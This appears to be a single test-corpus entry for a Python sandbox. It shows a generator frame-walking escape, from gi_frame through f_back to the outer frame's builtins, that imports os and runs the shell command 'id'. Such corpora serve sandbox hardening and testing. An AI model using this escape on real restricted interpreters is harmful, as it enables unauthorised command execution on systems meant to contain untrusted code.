# corpus: generator gi_frame.f_back.f_globals escape to the caller's builtins
def gen():
    yield 1

g = gen()
next(g)
frame = g.gi_frame
while frame.f_back is not None:
    frame = frame.f_back
frame.f_globals["__builtins__"].__import__("os").system("id")
